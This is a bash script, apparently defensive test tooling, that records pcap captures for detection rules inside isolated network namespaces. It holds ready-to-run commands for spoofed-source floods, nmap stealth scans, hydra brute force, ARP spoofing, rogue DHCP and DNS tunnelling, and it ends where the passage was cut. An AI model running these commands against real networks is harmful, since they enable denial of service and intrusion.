#!/usr/bin/env bash
# Records the captures of testdata/pcap from real tools, in network namespaces of its own.
#
#   testdata/lab/record.sh            all of them, then the demo
#   testdata/lab/record.sh NAME...    only these, as they are named in the list of recordings below
#   testdata/lab/record.sh --list     the names
#   testdata/lab/record.sh --packages the Debian packages with the tools that it needs
#
# Needs root. No packet leaves the namespaces: they have no link to the machine's own network.
# The table in testdata/README.md is written from what was run.
#
#        198.51.100.0/24 (attackers)                      192.0.2.0/24 (servers of others)
#   scan .7  flood .8  brute .22 (and .101-.124)          server .80, its name server .53
#                       \                                 /
#                        router ns, forwards between all three
#                                      |
#                     10.0.0.0/24, fd00:10::/64 (home): a hub, recorded at the router's port
#   web .10   files .20   client .30   dns .53   intruder .66   farm .100-.139
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
out=$(cd "$here/.." && pwd)/pcap
readme=$(cd "$here/.." && pwd)/README.md
ns=${LAB_NAMESPACE:-ruleids-lab}
dump_pid=
work=
made=()

die() {
	echo "record.sh: $*" >&2
	exit 2
}

# --- what is needed ---------------------------------------------------------------------------

# A tool and the Debian package that has it, a line.
tools() {
	cat <<-LIST
		ip iproute2
		ethtool ethtool
		tcpdump tcpdump
		editcap wireshark-common
		capinfos wireshark-common
		mergecap wireshark-common
		tshark tshark
		python3 python3
		nmap nmap
		hping3 hping3
		ping iputils-ping
		arpspoof dsniff
		iodine iodine
		iodined iodine
		hydra hydra
		sshd openssh-server
		ssh-keygen openssh-client
		vsftpd vsftpd
		dnsmasq dnsmasq-base
		dig bind9-dnsutils
		curl curl
		nc netcat-openbsd
		macof dsniff
		atk6-flood_router26 thc-ipv6
		yersinia yersinia
		slowhttptest slowhttptest
		ab apache2-utils
		gobuster gobuster
		ptunnel ptunnel
		onesixtyone onesixtyone
		svwar sipvicious
		openssl openssl
		ssh openssh-client
		ss iproute2
		udhcpc udhcpc
		kinit krb5-user
		krb5kdc krb5-kdc
	LIST
}

need() {
	local missing=() packages=() tool package
	while read -r tool package; do
		if ! type -P "$tool" >/dev/null; then
			missing+=("$tool")
			packages+=("$package")
		fi
	done < <(tools)
	if ((${#missing[@]})); then
		mapfile -t packages < <(printf '%s\n' "${packages[@]}" | sort -u)
		die "missing: ${missing[*]}; install with: apt-get install ${packages[*]}"
	fi
	((EUID == 0)) || die "needs root, for namespaces and raw sockets"
	[[ -c /dev/net/tun ]] || die "needs /dev/net/tun, for iodine"
}

# --- the network ------------------------------------------------------------------------------

# on HOST COMMAND... runs a command in a host's namespace.
on() {
	local host=$1
	shift
	ip netns exec "$ns-$host" "$@"
}

# serve HOST COMMAND... runs a daemon there; it ends with its namespace.
serve() {
	local host=$1
	shift
	ip netns exec "$ns-$host" "$@" >>"$work/$host.log" 2>&1 &
}

namespace() {
	ip netns add "$ns-$1"
	made+=("$1")
	ip -n "$ns-$1" link set lo up
	on "$1" sysctl -qw net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.all.accept_dad=0 \
		net.ipv6.conf.default.accept_ra=0 net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
}

# host NAME BRIDGE NUMBER MAC-END connects a host to a bridge of the router. Offloads are off, so
# that captures hold packets as a wire would carry them.
host() {
	local name=$1 bridge=$2 number=$3 v4 v6
	namespace "$name"
	ip -n "$ns-router" link add "v-$name" type veth peer name eth0 netns "$ns-$name"
	ip -n "$ns-router" link set "v-$name" master "$bridge" mtu 9000 up
	ip -n "$ns-$name" link set eth0 address "02:00:00:$4" mtu 1500 up
	on router ethtool -K "v-$name" tx off tso off gso off gro off >/dev/null
	on "$name" ethtool -K eth0 tx off tso off gso off gro off >/dev/null
	read -r v4 v6 <<<"$(prefixes "$bridge")"
	ip -n "$ns-$name" address add "$v4.$number/24" dev eth0
	ip -n "$ns-$name" address add "$v6::$number/64" dev eth0 nodad
	ip -n "$ns-$name" route add default via "$v4.1"
	ip -n "$ns-$name" route add default via "$v6::1"
}

# prefixes BRIDGE says the IPv4 and IPv6 prefix of a bridge.
prefixes() {
	case $1 in
	home) echo 10.0.0 fd00:10 ;;
	attack) echo 198.51.100 2001:db8:51 ;;
	others) echo 192.0.2 2001:db8:2 ;;
	esac
}

build() {
	local bridge v4 v6 number=0
	namespace router
	on router sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.default.send_redirects=0
	for bridge in home attack others; do
		number=$((number + 1))
		ip -n "$ns-router" link add "$bridge" type bridge ageing_time 0 mcast_snooping 0
		ip -n "$ns-router" link set "$bridge" address "02:00:00:00:0$number:01" mtu 1500 up
		on router ethtool -K "$bridge" tx off tso off gso off gro off >/dev/null
		read -r v4 v6 <<<"$(prefixes "$bridge")"
		ip -n "$ns-router" address add "$v4.1/24" dev "$bridge"
		ip -n "$ns-router" address add "$v6::1/64" dev "$bridge" nodad
	done
	host web home 10 00:01:10
	host files home 20 00:01:20
	host client home 30 00:01:30
	host dns home 53 00:01:53
	host intruder home 66 00:01:66
	host farm home 100 00:01:64
	host scan attack 7 00:02:07
	host flood attack 8 00:02:08
	host brute attack 22 00:02:22
	host server others 80 00:03:80
	for number in {101..139}; do ip -n "$ns-farm" address add "10.0.0.$number/24" dev eth0; done
	for number in {101..124}; do ip -n "$ns-brute" address add "198.51.100.$number/24" dev eth0; done
	ip -n "$ns-server" address add 192.0.2.53/24 dev eth0
}

services() {
	serve web python3 "$here/web.py" 0.0.0.0 80
	serve server python3 "$here/web.py" 0.0.0.0 80
	serve dns dnsmasq --no-daemon --no-resolv --no-hosts --conf-file=/dev/null --user=nobody --pid-file="$work/dnsmasq.pid" \
		--address=/www.example.com/192.0.2.80 --address=/www.example.org/192.0.2.80 --address=/cdn.example.net/192.0.2.80 \
		--address=/intranet.example/10.0.0.10 --address=/example.com/192.0.2.80 --address=/example.org/192.0.2.80 --address=/test/

	ssh-keygen -q -t ed25519 -N '' -f "$work/host_key"
	printf '%s\n' 'Port 22' 'Port 902' "HostKey $work/host_key" 'UsePAM no' 'MaxAuthTries 2' 'MaxStartups 100' "PidFile $work/sshd.pid" >"$work/sshd.conf"
	# sshd wants /run/sshd; a namespace's commands have mounts of their own, so it gets one there.
	# shellcheck disable=SC2016
	serve files bash -c 'mount -t tmpfs none /run && mkdir /run/sshd && exec "$(command -v sshd)" -D -f "$1"' sshd "$work/sshd.conf"
	mkdir "$work/empty"
	printf '%s\n' listen=YES anonymous_enable=NO local_enable=YES "secure_chroot_dir=$work/empty" max_login_fails=1 \
		delay_failed_login=0 max_clients=0 max_per_ip=0 background=NO >"$work/vsftpd.conf"
	chown root:root "$work/vsftpd.conf"
	serve files vsftpd "$work/vsftpd.conf"

	serve server iodined -f -c -P lab-only -n 192.0.2.53 -l 192.0.2.53 10.53.0.1/24 t.example.org
	serve server nc -l -k 4444

	answers web 80
	answers files 22
	answers files 21
	answers server 80
	answers server 4444
	for _ in {1..100}; do
		on client dig +short +timeout=1 +tries=1 @10.0.0.53 www.example.com >/dev/null && return
	done
	die "the name server of the lab does not answer; see $work/dns.log"
}

# answers HOST PORT waits until a TCP port is open on a host, for half a minute.
answers() {
	for _ in {1..300}; do
		on "$1" nc -z -w 1 127.0.0.1 "$2" 2>/dev/null && return
		sleep 0.1
	done
	die "nothing answers on port $2 of $1; see $work/$1.log"
}

down() {
	local status=$? name pid
	trap - EXIT INT TERM
	set +e
	[[ -n $dump_pid ]] && kill "$dump_pid" 2>/dev/null
	for name in "${made[@]}"; do
		for pid in $(ip netns pids "$ns-$name" 2>/dev/null); do kill "$pid" 2>/dev/null; done
	done
	for name in "${made[@]}"; do
		for pid in $(ip netns pids "$ns-$name" 2>/dev/null); do kill -9 "$pid" 2>/dev/null; done
		ip netns del "$ns-$name" 2>/dev/null
	done
	if [[ -n $work ]]; then
		if ((status == 0)); then rm -rf "$work"; else echo "record.sh: logs are in $work" >&2; fi
	fi
	exit "$status"
}

# --- recording --------------------------------------------------------------------------------

# run HOST COMMAND... runs a tool there and writes the command down for the table. What the tool
# finds out is no matter here: a refused login is what brute force is about.
run() {
	printf '%s\n' "${*:2}" >>"$work/commands"
	quietly "$@"
}

# quietly HOST COMMAND... is run for what need not be in the table.
quietly() { on "$1" timeout -s INT 60 "${@:2}" >>"$work/tools.log" 2>&1 </dev/null || true; }

# start SNAP COUNT FILTER begins to record the home network.
start() {
	: >"$work/commands"
	: >"$work/tcpdump.log"
	ip netns exec "$ns-router" tcpdump -i home -n -U --immediate-mode -B 16384 -s "$1" -c "$2" -w "$work/raw.pcap" "$3" 2>"$work/tcpdump.log" &
	dump_pid=$!
	for _ in {1..100}; do
		grep -q 'listening on' "$work/tcpdump.log" && return
		sleep 0.05
	done
	die "tcpdump does not start: $(<"$work/tcpdump.log")"
}

# finish FILE WHAT ADDRESSES RULES ends the recording and writes file and table row.
finish() {
	sleep 0.3 # what is under way still belongs to it
	kill "$dump_pid" 2>/dev/null || true # it may have what it was to count
	wait "$dump_pid" || true
	dump_pid=
	keep "$@"
}

# keep is finish for a file that is already whole.
keep() {
	local file=$1 rules=$4 packets commands
	packets=$(capinfos -TMrc "$work/raw.pcap" | cut -f 2)
	((packets > 0)) || die "$file: no packets; see $work/tools.log"
	case $file in
	*.gz) gzip -9nc "$work/raw.pcap" >"$out/$file" ;;
	*) cp "$work/raw.pcap" "$out/$file" ;;
	esac
	chmod 644 "$out/$file"
	commands=$(awk 'NF { printf "%s`%s`", (n++ ? "<br>" : ""), $0 }' "$work/commands")
	[[ $rules == none ]] || rules="\`${rules// /\` \`}\`"
	row "$file" "| \`$file\` | $2 | $commands | $3 | $packets | $rules |"
	printf '%-32s %6d packets %8d bytes\n' "$file" "$packets" "$(stat -c %s "$out/$file")"
}

# row FILE LINE puts a row in the table of the README, in the place of the one for the same file.
row() {
	local begin='<!-- written by record.sh -->' end='<!-- end -->'
	{
		awk -v end="$begin" '{ print } $0 == end { exit }' "$readme"
		printf '%s\n' '| file | what is in it | commands | addresses | packets | rules that fire |' '| --- | --- | --- | --- | --- | --- |'
		{
			grep '^| `' "$readme" | grep -vF "| \`$1\` |" || true
			printf '%s\n' "$2"
		} | LC_ALL=C sort
		awk -v begin="$end" '$0 == begin { on = 1 } on' "$readme"
	} >"$work/readme"
	cp "$work/readme" "$readme"
}

# --- the recordings ---------------------------------------------------------------------------

recordings=(
	curl-benign dig-benign dig-names-50 ssh-benign ping-benign
	nmap-syn nmap-syn-14 nmap-syn-slow nmap-syn-1000 nmap-connect nmap-udp nmap-syn-ipv6
	nmap-null nmap-fin nmap-xmas nmap-synfin nmap-frag nmap-sweep nmap-ipproto nmap-sctp
	nmap-ack nmap-ping-sweep nmap-arp-sweep nmap-udp-sweep nmap-os vxlan-tunnel
	hping3-rst-flood hping3-icmp-flood-spoofed hping3-udp-flood-spoofed
	hping3-syn-flood hping3-syn-flood-spoofed hping3-icmp-flood ping6-icmpv6-flood hping3-udp-flood hping3-land
	hydra-ftp hydra-ssh nc-distributed-ssh
	iodine arpspoof upload upload-below nc-backdoor
	nmap-services-slow flood-routers flood-neighbors parasite6 yersinia-dhcp macof hping3-reflection
	slowhttptest ab gobuster ptunnel
	nmap-nd-sweep onesixtyone svwar hping3-synack-flood-spoofed hping3-tcp-fragments
	nmap-discovery hping3-fin-flood ping-fragments
	arpspoof-steady dig-random dig-rebinding ssh-902 smb-outside rdp-outside openssl-tls1 dhcp-rogue kinit-names
)

curl-benign() {
	local i
	start 256 600 'host 10.0.0.30 and not arp' # names, pages from inside and outside, two at once
	for i in 300 9000 20000; do
		run client dig +short @10.0.0.53 www.example.com
		run client curl -s -o /dev/null "http://192.0.2.80/$i"
		quietly client curl -s -o /dev/null -Z "http://10.0.0.10/$i" "http://192.0.2.80/1$i"
		quietly client dig +short @10.0.0.53 AAAA cdn.example.net
		sleep 1
	done
	finish curl-benign.pcap 'Web pages from a server at home and one outside, with the lookups before them' 'client 10.0.0.30, servers 10.0.0.10, 192.0.2.80, name server 10.0.0.53' none
}

dig-benign() {
	local i kind
	start 512 400 'port 53'
	for i in www mail cdn api img static login shop; do
		for kind in A AAAA MX; do run client dig +short @10.0.0.53 "$kind" "$i.example.com"; done
	done
	finish dig-benign.pcap 'Ordinary lookups of eight names' 'client 10.0.0.30, name server 10.0.0.53' none
}

dig-names-50() {
	start 512 400 'port 53'
	# 50 characters, the longest that dns_tunnel lets pass; and 51.
	run client dig +short @10.0.0.53 assets-0123456789-0123456789-012345678.example.com
	finish dig-names-50.pcap 'A name of 50 characters, just short enough' 'client 10.0.0.30, name server 10.0.0.53' none
}

ssh-benign() {
	start 256 200 'port 22'
	run client ssh -F none -i none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null nobody@10.0.0.20 true
	finish ssh-benign.pcap 'One SSH connection, its login refused' 'client 10.0.0.30, server 10.0.0.20' none
}

ping-benign() {
	start 128 200 icmp
	run client ping -c 20 -i 0.2 192.0.2.80
	finish ping-benign.pcap 'Twenty pings' 'client 10.0.0.30, server 192.0.2.80' none
}

nmap-syn() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sS -p 1-40 --max-retries 1 10.0.0.20
	finish nmap-syn.pcap 'A fast SYN scan of 40 ports' '198.51.100.7 scans 10.0.0.20' 'port_scan crafted_syn_scan'
}

nmap-syn-14() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sS -p 31-44 --max-retries 0 10.0.0.20
	finish nmap-syn-14.pcap 'A SYN scan of 14 ports, one fewer than port_scan counts' '198.51.100.7 scans 10.0.0.20' 'crafted_syn_scan refused_ports'
}

nmap-syn-slow() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sS -p 31-50 --scan-delay 1s --max-retries 0 10.0.0.20
	finish nmap-syn-slow.pcap 'A SYN scan of 20 ports, one a second: about ten in any ten seconds' '198.51.100.7 scans 10.0.0.20' 'slow_port_scan refused_ports failed_connections crafted_syn_scan'
}

nmap-syn-1000() {
	start 96 4000 'host 198.51.100.7'
	run scan nmap -n -Pn -sS -T4 --max-retries 0 10.0.0.20
	finish nmap-syn-1000.pcap.gz 'The scan that nmap does when it is told nothing else: 1,000 ports' '198.51.100.7 scans 10.0.0.20' 'port_scan syn_flood syn_flood_fast syn_ratio suspicious_port crafted_syn_scan'
}

nmap-connect() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sT -p 1-40 --max-retries 1 10.0.0.20
	finish nmap-connect.pcap 'A scan of 40 ports with whole connections' '198.51.100.7 scans 10.0.0.20' 'port_scan'
}

nmap-udp() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sU -p 2000-2039 --max-retries 0 --scan-delay 20ms 10.0.0.20
	finish nmap-udp.pcap 'A scan of 40 UDP ports' '198.51.100.7 scans 10.0.0.20' 'udp_scan'
}

nmap-syn-ipv6() {
	start 110 400 'host 2001:db8:51::7'
	run scan nmap -6 -n -Pn -sS -p 1-40 --max-retries 1 fd00:10::20
	finish nmap-syn-ipv6.pcap 'A fast SYN scan of 40 ports over IPv6' '2001:db8:51::7 scans fd00:10::20' 'port_scan crafted_syn_scan'
}

# stealth NAME WHAT OPTIONS... records a scan of closed ports with unusual flags.
stealth() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn "${@:3}" --max-retries 0 10.0.0.20
	finish "$1.pcap" "$2" '198.51.100.7 scans 10.0.0.20' 'stealth_scan'
}

nmap-null() { stealth nmap-null 'A scan of 20 ports without any TCP flag' -sN -p 31-50; }
nmap-fin() { stealth nmap-fin 'A scan of 20 ports with FIN alone' -sF -p 31-50; }
nmap-xmas() { stealth nmap-xmas 'A scan of 20 ports with FIN, PSH and URG' -sX -p 31-50; }
nmap-synfin() { stealth nmap-synfin 'A scan of 14 ports with SYN and FIN together' -sS --scanflags SYNFIN -p 31-44; }

nmap-frag() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sS -f -p 31-40 --max-retries 0 10.0.0.20
	finish nmap-frag.pcap 'A SYN scan of 10 ports in fragments of 8 bytes' '198.51.100.7 scans 10.0.0.20' 'tiny_fragments crafted_syn_scan refused_ports'
}

nmap-sweep() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sS -p 8080 --max-retries 0 10.0.0.100-139
	finish nmap-sweep.pcap 'One port tried on 40 hosts' '198.51.100.7 tries 10.0.0.100 to .139' 'host_sweep crafted_syn_scan'
}

nmap-ipproto() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sO -p 2,3,5,8,9,11,20,27,33,46,50,80,88,89,103,108,112 --max-retries 0 10.0.0.20
	finish nmap-ipproto.pcap 'A scan of 17 IP protocols' '198.51.100.7 scans 10.0.0.20' 'protocol_scan'
}

nmap-sctp() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sY -p 1-30 --max-retries 0 10.0.0.20
	finish nmap-sctp.pcap 'An SCTP scan of 30 ports' '198.51.100.7 scans 10.0.0.20' 'sctp_scan'
}

nmap-ack() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sA -p 1-40 --max-retries 0 10.0.0.20
	finish nmap-ack.pcap 'A scan of 40 ports with ACK alone' '198.51.100.7 scans 10.0.0.20' 'ack_scan refused_ports failed_connections'
}

nmap-ping-sweep() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -sn -PE 10.0.0.100-139
	finish nmap-ping-sweep.pcap 'Forty hosts pinged' '198.51.100.7 pings 10.0.0.100 to .139' 'ping_sweep'
}

nmap-arp-sweep() {
	start 64 700 arp
	run intruder nmap -n -sn 10.0.0.0/24
	finish nmap-arp-sweep.pcap 'All addresses of a link asked for' '10.0.0.66 asks for 10.0.0.0/24' 'arp_sweep'
}

nmap-udp-sweep() {
	start 110 400 'host 198.51.100.7'
	run scan nmap -n -Pn -sU -p 161 --max-retries 0 10.0.0.100-139
	finish nmap-udp-sweep.pcap 'SNMP looked for on 40 hosts' '198.51.100.7 tries 10.0.0.100 to .139' 'udp_host_sweep'
}

nmap-os() {
	start 110 400 'host 198.51.100.7'
	run scan nmap -n -Pn -O -p 22,1 --max-retries 0 10.0.0.20
	finish nmap-os.pcap 'The questions by which nmap tells systems apart' '198.51.100.7 asks 10.0.0.20' 'nmap_os_probe stealth_scan brute_force'
}

# The far end needs no tunnel of its own: that something is sent is what is looked for.
vxlan-tunnel() {
	start 160 20 'udp port 4789'
	run client ip link add out type vxlan id 7 local 10.0.0.30 remote 198.51.100.7 dstport 4789 dev eth0
	quietly client ip address add 10.99.0.2/24 dev out
	quietly client ip link set out up
	quietly client ip neighbor replace 10.99.0.1 lladdr 02:00:00:00:99:01 dev out
	run client ping -c 5 -i 0.2 -W 1 10.99.0.1
	quietly client ip link del out
	finish vxlan-tunnel.pcap 'A VXLAN that leaves the home network' 'client 10.0.0.30 to 198.51.100.7' 'tunnel_opened'
}

hping3-rst-flood() {
	start 60 1300 'src host 198.51.100.8'
	run flood hping3 -q -R -p 80 -i u1000 -c 1200 10.0.0.10
	finish hping3-rst-flood.pcap.gz '1,200 RST in two seconds' '198.51.100.8 floods 10.0.0.10:80' 'tcp_flood_stateless'
}

hping3-icmp-flood-spoofed() {
	start 60 1300 'dst host 10.0.0.10 and icmp'
	run flood hping3 -q -1 --rand-source -i u1000 -c 1300 10.0.0.10
	finish hping3-icmp-flood-spoofed.pcap.gz 'About 1,200 echo requests, each with an invented source' 'many flood 10.0.0.10' 'icmp_flood_any'
}

hping3-udp-flood-spoofed() {
	start 60 2600 'dst host 10.0.0.10 and udp'
	run flood hping3 -q -2 -p 9999 --rand-source -i u500 -c 2600 10.0.0.10
	finish hping3-udp-flood-spoofed.pcap.gz 'About 2,400 UDP packets, each with an invented source' 'many flood 10.0.0.10' 'udp_flood_global'
}

hping3-syn-flood() {
	start 60 1000 'host 198.51.100.8'
	run flood hping3 -q -S -p 80 -i u1000 -c 300 10.0.0.10
	finish hping3-syn-flood.pcap '300 SYN in less than a second' '198.51.100.8 floods 10.0.0.10:80' 'syn_flood syn_flood_fast syn_flood_crafted'
}

hping3-syn-flood-spoofed() {
	start 60 4000 'dst host 10.0.0.10 and tcp dst port 80'
	run flood hping3 -q -S -p 80 --rand-source -i u1000 -c 1300 10.0.0.10
	finish hping3-syn-flood-spoofed.pcap.gz 'About 1,200 SYN, each with an invented source' 'many flood 10.0.0.10:80' 'syn_flood_global syn_flood_crafted'
}

hping3-icmp-flood() {
	start 60 400 'host 198.51.100.8'
	run flood hping3 -q -1 -i u5000 -c 150 10.0.0.10
	finish hping3-icmp-flood.pcap '150 echo requests in a second' '198.51.100.8 floods 10.0.0.10' 'icmp_flood'
}

ping6-icmpv6-flood() {
	start 80 400 'host 2001:db8:51::8'
	run flood ping -6 -q -i 0.005 -c 150 fd00:10::10
	finish ping6-icmpv6-flood.pcap '150 echo requests in a second over IPv6' '2001:db8:51::8 floods fd00:10::10' 'icmp_flood'
}

hping3-udp-flood() {
	start 60 2400 'src host 198.51.100.8'
	run flood hping3 -q -2 -p 123 -i u500 -c 2200 10.0.0.10
	finish hping3-udp-flood.pcap '2,200 UDP packets in two seconds; the answers are left out' '198.51.100.8 floods 10.0.0.10' 'udp_flood'
}

hping3-land() {
	start 60 100 'host 10.0.0.10'
	run flood hping3 -q -S -a 10.0.0.10 -s 80 -k -p 80 -c 5 -i u200000 10.0.0.10
	finish hping3-land.pcap 'Five packets from an address and port to the same' '198.51.100.8 in the name of 10.0.0.10' 'land_attack'
}

hping3-tcp-fragments() {
	start 60 400 'src host 198.51.100.8'
	run flood hping3 -q -S -p 80 -d 65495 -i u50000 -c 8 10.0.0.10
	finish hping3-tcp-fragments.pcap.gz 'Eight SYN of 65,535 bytes in 45 fragments each' '198.51.100.8 floods 10.0.0.10' 'tcp_fragments'
}

nmap-discovery() {
	start 96 400 'host 198.51.100.7'
	run scan nmap -n -sn 10.0.0.20
	finish nmap-discovery.pcap 'The questions by which nmap finds out that a host is there' '198.51.100.7 asks 10.0.0.20' 'nmap_ping'
}

hping3-fin-flood() {
	start 60 400 'src host 198.51.100.8'
	run flood hping3 -q -F -p 80 -i u10000 -c 150 10.0.0.10
	finish hping3-fin-flood.pcap '150 FIN to one port in two seconds' '198.51.100.8 floods 10.0.0.10:80' 'tcp_flags_flood stealth_scan'
}

arpspoof-steady() {
	quietly client ip neigh flush all
	start 128 100 arp
	run intruder timeout -s INT 15 arpspoof -i eth0 -t 10.0.0.30 10.0.0.1
	quietly client ip neigh flush all
	finish arpspoof-steady.pcap 'An intruder says seven times that it is the gateway, unasked' 'intruder 10.0.0.66, client 10.0.0.30, gateway 10.0.0.1' 'arp_spoof arp_unsolicited'
}

# Names that no registry has: those of .test are for that (RFC 6761).
dig-random() {
	local name
	start 400 200 'host 10.0.0.30 and port 53'
	for name in qxvkzbn wmrtplod hyfjcaqe zzpwoxit kdnbvurs gqelmhax tjsyfcow brxznpki vwdaghuq omylteck \
		rfqjzsiv ncuxwbpd eakthygm lzovrqxf pisdmjbn xgwhyeut cqfklzra ybtnovds mjpxeiwg uhrzaqck \
		sldvtfoy ingbwxmj fkqpezuh dyrcaots wxjlmvng aebhqkzp; do
		run client dig +short +tries=1 @10.0.0.53 "$name.test"
	done
	finish dig-random.pcap 'Twenty-six domains asked for that do not exist' 'client 10.0.0.30, name server 10.0.0.53' 'nxdomain_burst'
}

dig-rebinding() {
	serve web dnsmasq --no-daemon --no-resolv --no-hosts --conf-file=/dev/null --user=nobody --pid-file="$work/rebind.pid" --address=/www.example.com/10.0.0.10
	for _ in {1..100}; do
		on client dig +short +timeout=1 +tries=1 @10.0.0.10 www.example.com >/dev/null && break
	done
	start 400 20 'host 10.0.0.30 and port 53'
	run client dig +short @10.0.0.53 www.example.com
	run client dig +short @10.0.0.10 www.example.com
	finish dig-rebinding.pcap 'A name with an address outside, and a second later one inside' 'client 10.0.0.30, name servers 10.0.0.53 and 10.0.0.10' 'dns_rebinding'
}

ssh-902() {
	start 300 100 'tcp port 902'
	run client ssh -p 902 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -F none nobody@10.0.0.20
	finish ssh-902.pcap 'SSH on port 902' 'client 10.0.0.30, server 10.0.0.20' 'ssh_other_port'
}

# connected FILE WHAT PORT RULES: somebody outside is connected to a port at home.
connected() {
	serve files nc -l "$3"
	answers_by "$3"
	start 96 40 "tcp port $3"
	run scan nc -w 1 -N 10.0.0.20 "$3"
	finish "$1" "$2" "198.51.100.7, 10.0.0.20:$3" "$4"
}

# answers_by PORT waits until something listens on a port of files, without a connection to it.
answers_by() {
	for _ in {1..100}; do
		on files ss -Hltn "sport = :$1" | grep -q . && return
		sleep 0.05
	done
	die "nothing listens on port $1 of files"
}

smb-outside() { connected smb-outside.pcap 'A connection from outside to the port of file shares' 445 smb_from_outside; }

rdp-outside() { connected rdp-outside.pcap 'A connection from outside to the port of Remote Desktop' 3389 rdp_from_outside; }

openssl-tls1() {
	quietly web openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=web.example -keyout "$work/tls.key" -out "$work/tls.crt"
	serve web openssl s_server -quiet -accept 443 -tls1 -cipher DEFAULT@SECLEVEL=0 -key "$work/tls.key" -cert "$work/tls.crt"
	answers web 443
	start 1600 60 'host 10.0.0.30 and tcp port 443'
	run client openssl s_client -connect 10.0.0.10:443 -tls1 -cipher DEFAULT@SECLEVEL=0
	finish openssl-tls1.pcap 'A server that agrees to TLS 1.0' 'client 10.0.0.30, server 10.0.0.10' 'tls_old_version'
}

dhcp-rogue() {
	local host
	for host in dns intruder; do
		serve "$host" dnsmasq --no-daemon --port=0 --conf-file=/dev/null --user=nobody --pid-file="$work/dhcp-$host.pid" --dhcp-leasefile="$work/leases-$host" --dhcp-range=10.0.0.200,10.0.0.220,1h --dhcp-authoritative
	done
	sleep 1
	start 600 40 'udp port 67 or udp port 68'
	run client udhcpc -f -q -n -t 3 -T 2 -i eth0 -s /bin/true
	finish dhcp-rogue.pcap 'Two servers offer a lease to one client' 'client at home, servers 10.0.0.53 and 10.0.0.66' 'dhcp_two_servers'
}

kinit-names() {
	local name
	printf '%s\n' '[libdefaults]' 'default_realm = EXAMPLE.COM' 'dns_lookup_kdc = false' 'dns_canonicalize_hostname = false' '[realms]' 'EXAMPLE.COM = {' \
		'kdc = 10.0.0.20' "database_name = $work/principal" "key_stash_file = $work/stash" 'kdc_listen = 88' 'kdc_tcp_listen = 88' '}' >"$work/krb5.conf"
	export KRB5_CONFIG=$work/krb5.conf KRB5_KDC_PROFILE=$work/krb5.conf KRB5CCNAME=$work/tickets
	quietly files kdb5_util create -s -P lab-only
	serve files krb5kdc -n
	answers files 88
	start 400 80 'host 10.0.0.30 and port 88'
	for name in alice bob carol dave erin frank grace heidi ivan judy mallory niaj; do run client kinit "$name"; done
	finish kinit-names.pcap 'Twelve names of accounts asked of Kerberos, none of which there is' 'client 10.0.0.30, server 10.0.0.20' 'kerberos_errors'
	unset KRB5_CONFIG KRB5_KDC_PROFILE KRB5CCNAME
}

ping-fragments() {
	start 60 600 'src host 198.51.100.8'
	run flood ping -q -c 6 -i 1 -s 65000 10.0.0.10
	finish ping-fragments.pcap.gz 'Six pings of 65,000 bytes in 44 fragments each' '198.51.100.8 floods 10.0.0.10' 'icmp_fragments'
}

hydra-ftp() {
	start 120 1500 'host 198.51.100.22 and tcp port 21'
	run brute hydra -q -I -t 8 -l admin -P words.txt ftp://10.0.0.20
	finish hydra-ftp.pcap.gz 'Passwords guessed at an FTP server' '198.51.100.22 guesses at 10.0.0.20' 'brute_force login_failures passwords_tried'
}

hydra-ssh() {
	start 120 1500 'host 198.51.100.22 and tcp port 22'
	run brute hydra -q -I -t 16 -w 2 -l admin -P words.txt ssh://10.0.0.20
	finish hydra-ssh.pcap.gz 'Passwords guessed at an SSH server' '198.51.100.22 guesses at 10.0.0.20' 'brute_force ssh_failures'
}

nc-distributed-ssh() {
	local number
	start 120 600 'tcp port 22'
	for number in {101..124}; do run brute nc -s "198.51.100.$number" -w 1 -z 10.0.0.20 22; done
	finish nc-distributed-ssh.pcap 'One connection to an SSH server from each of 24 addresses' '198.51.100.101 to .124, 10.0.0.20' 'distributed_brute_force'
}

iodine() {
	local tunnel
	start 400 340 'host 10.0.0.30 and udp port 53'
	serve client iodine -f -r -P lab-only 192.0.2.53 t.example.org
	tunnel=$!
	printf '%s\n' 'iodined -f -c -P … -n 192.0.2.53 -l 192.0.2.53 10.53.0.1/24 t.example.org' 'iodine -f -r -P … 192.0.2.53 t.example.org' >>"$work/commands"
	for _ in {1..100}; do
		on client ip address show dns0 2>/dev/null | grep -q 10.53.0 && break
		sleep 0.1
	done
	run client ping -c 40 -i 0.2 -s 200 10.53.0.1
	kill "$tunnel"
	finish iodine.pcap 'IP tunnelled in DNS names' 'client 10.0.0.30, name server 192.0.2.53 of example.org' 'dns_tunnel dns_tunnel_volume'
}

arpspoof() {
	quietly client ip neigh flush all
	start 128 100 'arp or host 10.0.0.30'
	quietly client curl -s -o /dev/null http://192.0.2.80/200
	quietly client ping -c 1 10.0.0.66
	run intruder timeout -s INT 5 arpspoof -i eth0 -t 10.0.0.30 10.0.0.1
	quietly client ip neigh flush all
	finish arpspoof.pcap 'An intruder says that it is the gateway' 'intruder 10.0.0.66, client 10.0.0.30, gateway 10.0.0.1' 'arp_spoof'
}

# send BYTES uploads, in frames of 9,000 bytes to keep their number low.
send() {
	local host
	head -c "$1" /dev/zero >upload.bin
	for host in client server; do ip -n "$ns-$host" link set eth0 mtu 9000; done
	for host in home others; do ip -n "$ns-router" link set "$host" mtu 9000; done
	start 66 2000 'host 10.0.0.30 and tcp port 80'
